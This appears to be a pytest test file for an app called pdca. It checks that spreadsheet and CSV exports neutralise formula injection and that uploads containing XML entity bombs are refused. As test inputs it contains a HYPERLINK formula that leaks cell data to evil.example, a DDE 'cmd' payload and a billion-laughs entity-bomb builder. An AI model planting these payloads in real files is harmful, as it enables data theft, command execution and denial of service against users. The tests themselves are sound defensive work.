"""Every XLSX and CSV file pdca writes keeps user text from running as a formula, pdca's own
importers read that text back unchanged, and uploaded workbooks are parsed safely (no XML
entity is expanded, no error message repeats a huge cell)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.db import models

from pdca.core import xlsx
from pdca.core.exceptions import ValidationFailed

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"see photo")'
#: Formula starts, one per poisoned value in turn (the tab and carriage return too).
STARTS = ("=", "+", "-", "@", "\t", "\r")


# --- the one place -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "'=already marked",
        "''",
        "'",
        "'plain apostrophe",
        "plain",
        "",
        "a=b",
    ],
)
def test_marking_is_undone_exactly_and_never_leaves_a_formula_start(text):
    marked = xlsx.mark_text(text)
    assert not marked.startswith(STARTS)
    assert xlsx.unmark_text(marked) == text


def test_a_saved_workbook_has_no_formula_and_keeps_numbers_and_dates():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([FORMULA, -5, -2.5, dt.date(2030, 1, 31), True, None, "#N/A"])
    sheet["A2"] = "=SUM(B1:C1)"
    saved = openpyxl.load_workbook(io.BytesIO(xlsx.workbook_bytes(book))).active
    assert (saved["A1"].value, saved["A1"].data_type) == ("'" + FORMULA, "s")
    assert (saved["B1"].value, saved["B1"].data_type) == (-5, "n")
    assert (saved["C1"].value, saved["C1"].data_type) == (-2.5, "n")
    assert saved["D1"].value == dt.datetime(2030, 1, 31)
    assert saved["E1"].value is True
    assert (saved["G1"].value, saved["G1"].data_type) == ("#N/A", "s")
    assert (saved["A2"].value, saved["A2"].data_type) == ("'=SUM(B1:C1)", "s")


def test_a_csv_file_marks_text_and_leaves_numbers():
    data = xlsx.csv_bytes([["title", "n"], [FORMULA, -5], ["-3", 2.5]])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["title", "n"], ["'" + FORMULA, "-5"], ["'-3", "2.5"]]


# --- every export of the demo, poisoned -----------------------------------------------------

#: Fields whose content other code parses or matches; poisoning them tests nothing here.
SKIPPED_FIELDS = {"sha256", "chain", "hash", "prev_hash", "content_type", "storage_name"}


def _poison(organization) -> int:
    """Give every free-text field of every row the organization owns formula-like text."""
    from django.apps import apps

    poisoned = 0
    for model in apps.get_models():
        app = model._meta.app_label
        if app in {"core", "accounts", "tenancy", "standards", "axes", "auth"}:
            continue
        if not any(f.name == "organization" for f in model._meta.concrete_fields):
            continue
        fields = [
            f
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField)
            and not isinstance(f, models.SlugField | models.EmailField | models.URLField)
            and not f.choices
            and f.name not in SKIPPED_FIELDS
        ]
        if not fields:
            continue
        for pk in model.objects.filter(organization=organization).values_list("pk", flat=True):
            start = STARTS[pk % len(STARTS)]
            values = {}
            for f in fields:
                text = f"{start}{FORMULA[1:]} {pk}" if start != "=" else f"{FORMULA} {pk}"
                if f.max_length and len(text) > f.max_length:
                    text = f"{start}{pk}+1"[: f.max_length]
                values[f.name] = text
            model.objects.filter(pk=pk).update(**values)
            poisoned += 1
    return poisoned


@pytest.fixture
def poisoned_demo(catalog):
    from pdca.demo import load_demo
    from pdca.tenancy.models import Organization

    load_demo()
    org = Organization.objects.get(slug="acme")
    assert _poison(org) > 100
    return org


def _workbook_cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def _assert_safe(kind: str, data: bytes) -> None:
    marked = 0
    for title, cell in _workbook_cells(data):
        where = f"{kind} {title}!{cell.coordinate}"
        assert cell.data_type != "f", f"{where} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(STARTS), f"{where} starts a formula: {cell.value!r}"
            marked += cell.value.startswith("'") and cell.value[1:].startswith(STARTS)
    assert marked, f"{kind}: no poisoned text reached the export, so it tested nothing"


def test_no_export_of_the_poisoned_demo_holds_a_formula(poisoned_demo):
    from pdca.accounts.models import User
    from pdca.assessments.models import GapAssessment
    from pdca.assessments.report import report_xlsx
    from pdca.assessments.spreadsheet import export_assessment
    from pdca.core.registers import spreadsheet
    from pdca.core.registers.spec import all_specs
    from pdca.documents.coverage import coverage, coverage_xlsx
    from pdca.improvement.analytics.export import analytics_workbook
    from pdca.risks.models import StatementOfApplicability
    from pdca.risks.soa.export import soa_xlsx
    from pdca.system.raci import services as raci
    from pdca.system.raci.export import raci_xlsx_bytes

    org = poisoned_demo
    manager = User.objects.get(email="quality@acme.example")
    exported = 0
    for spec in all_specs():
        rows = spec.model.objects.filter(organization=org).order_by("pk")
        if not rows.exists():
            continue
        _assert_safe(
            f"register {spec.slug}", spreadsheet.export_entries(spec, rows, organization=org)
        )
        exported += 1
    assert exported >= 10
    for assessment in GapAssessment.objects.filter(organization=org):
        _assert_safe(f"gap export {assessment.pk}", export_assessment(assessment))
        _assert_safe(f"gap report {assessment.pk}", report_xlsx(assessment))
    for soa in StatementOfApplicability.objects.filter(organization=org):
        _assert_safe(f"SoA {soa.pk}", soa_xlsx(soa))
    _assert_safe("CAPA analytics", analytics_workbook(org, manager))
    _assert_safe("RACI", raci_xlsx_bytes(raci.matrix(org, None, user=manager), organization=org))
    _assert_safe("documented information coverage", coverage_xlsx(coverage(manager, org)))


def test_the_catalog_downloads_hold_no_formula(catalog):
    from pdca.standards import exports
    from pdca.standards.models import Requirement, Standard
    from pdca.standards.selectors import documented_information

    standard = Standard.objects.get(code="iso9001-2015")
    Requirement.objects.filter(standard=standard).update(title=FORMULA)
    items = documented_information(standard)
    _assert_safe("documented information", exports.documented_information_xlsx(standard, items))
    rows = list(
        csv.reader(io.StringIO(exports.documented_information_csv(items).decode("utf-8-sig")))
    )
    assert rows[1][1] == "'" + FORMULA
    assert not any(value.startswith(STARTS) for row in rows for value in row)


# --- round trips through pdca's own importers ------------------------------------------------


def test_a_register_round_trip_reads_the_formula_like_text_back(personas):
    from pdca.core.registers import spreadsheet
    from pdca.core.registers.spec import spec_for
    from pdca.improvement.models import Nonconformity

    spec = spec_for("nonconformities")
    titles = [FORMULA, "-3 units short", "@all: see photo", "'=x", "plain"]
    for title in titles:
        spreadsheet.import_entries(
            spec, personas.org, _register_workbook(spec, title), actor=(personas.manager)
        )
    rows = Nonconformity.objects.filter(organization=personas.org).order_by("pk")
    assert [r.title for r in rows] == titles
    data = spreadsheet.export_entries(spec, rows, organization=personas.org)
    summary = spreadsheet.import_entries(spec, personas.org, data, actor=personas.manager)
    assert (summary.rows, summary.unchanged, summary.updated) == (5, 5, 0)
    assert [r.title for r in rows.all()] == titles


def _register_workbook(spec, title: str) -> bytes:
    from pdca.core.registers.display import header

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([header(spec, "title"), header(spec, "description"), header(spec, "source")])
    sheet.append([title, "seen on the line", "Employee report"])
    return xlsx.workbook_bytes(book)


def test_a_gap_assessment_round_trip_changes_nothing(poisoned_demo):
    from pdca.accounts.models import User
    from pdca.assessments.models import GapAssessment
    from pdca.assessments.spreadsheet import export_assessment, import_assessment

    assessment = GapAssessment.objects.filter(organization=poisoned_demo).exclude(status="closed")[
        0
    ]
    manager = User.objects.get(email="quality@acme.example")
    notes = dict(assessment.items.values_list("pk", "notes"))
    assert any(n.startswith(STARTS) for n in notes.values())
    summary = import_assessment(assessment, export_assessment(assessment), actor=manager)
    assert summary.changed == 0
    assert dict(assessment.items.values_list("pk", "notes")) == notes


# --- unsafe uploads --------------------------------------------------------------------------


def _with_part(data: bytes, name: str, content: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, content if info.filename == name else source.read(info))
    return out.getvalue()


def _bomb(levels: int = 10, width: int = 10, payload: str = "lol") -> bytes:
    """A workbook whose first sheet's A1 expands to `payload` × width ** levels."""
    book = openpyxl.Workbook()
    book.active["A1"] = "placeholder"
    data = xlsx.workbook_bytes(book)
    entities = [f'<!ENTITY e0 "{payload}">']
    for level in range(1, levels + 1):
        entities.append(f'<!ENTITY e{level} "{f"&e{level - 1};" * width}">')
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f"<!DOCTYPE worksheet [{''.join(entities)}]>\n"
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
        f"&e{levels};</t></is></c></row></sheetData></worksheet>"
    ).encode()
    return _with_part(data, "xl/worksheets/sheet1.xml", sheet)


@pytest.mark.parametrize(
    "bomb",
    [_bomb(), _bomb(levels=1, width=1, payload="x" * 300_000)],
    ids=["billion-laughs", "300-kB-entity"],
)
def test_a_workbook_declaring_entities_is_refused_unread(bomb):
    with pytest.raises(ValidationFailed) as exc_info:
        xlsx.open_workbook(bomb)
    (error,) = exc_info.value.errors
    assert (error.field, error.code) == ("file", "unsafe_xml")
    assert len(exc_info.value.message) < 300


def test_defusedxml_refuses_entities_on_its_own(monkeypatch):
    assert openpyxl.DEFUSEDXML, "defusedxml is a dependency: openpyxl must parse with it"
    monkeypatch.setattr(xlsx, "_declares_dtd", lambda archive, info: False)
    with pytest.raises(ValidationFailed) as exc_info:
        xlsx.open_workbook(_bomb(levels=1, width=1, payload="x" * 300_000))
    assert exc_info.value.errors[0].code == "unsafe_xml"


def test_an_entity_bomb_uploaded_to_a_register_is_a_clear_4xx(client, personas):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from pdca.core.testing.api_bundle import login

    login(client, personas.manager)
    response = client.post(
        f"/api/v1/nonconformities/import/jobs/?organization={personas.org.slug}",
        {"file": SimpleUploadedFile("bomb.xlsx", _bomb(), xlsx.XLSX_CONTENT_TYPE)},
    )
    # The import is a job: it fails, saying why in a few words.
    assert response.status_code == 202, response.content[:500]
    assert len(response.content) < 2500
    job = response.json()
    assert job["status"] == "failed"
    assert "DTD or XML entities" in job["errors"][0]["message"]


def test_error_messages_repeat_at_most_200_characters_of_a_cell(personas):
    from pdca.core.registers import spreadsheet
    from pdca.core.registers.display import header
    from pdca.core.registers.spec import spec_for

    spec = spec_for("nonconformities")
    huge = "x" * 300_000
    for rows in (
        [[header(spec, "title"), huge]],  # an unknown column
        [[header(spec, "title"), header(spec, "severity")], ["Scrap rate", huge]],  # a choice
    ):
        book = openpyxl.Workbook()
        for row in rows:
            book.active.append(row)
        with pytest.raises(ValidationFailed) as exc_info:
            spreadsheet.import_entries(
                spec, personas.org, xlsx.workbook_bytes(book), actor=personas.manager
            )
        (error,) = exc_info.value.errors
        assert len(error.message) <= xlsx.MESSAGE_CHARS
        assert "x" * 200 not in error.message
        assert "x" * 199 + "…" in error.message
        assert len(exc_info.value.message) < xlsx.MESSAGE_CHARS + 100


def test_long_messages_about_a_cell_are_cut_with_an_ellipsis():
    errors = xlsx.CellErrors("Sheet")
    errors.add(2, 3, "y" * 5000)
    with pytest.raises(ValidationFailed) as exc_info:
        errors.raise_if_any()
    (error,) = exc_info.value.errors
    assert (error.field, len(error.message)) == ("Sheet!C2", xlsx.MESSAGE_CHARS)
    assert error.message.endswith("…")
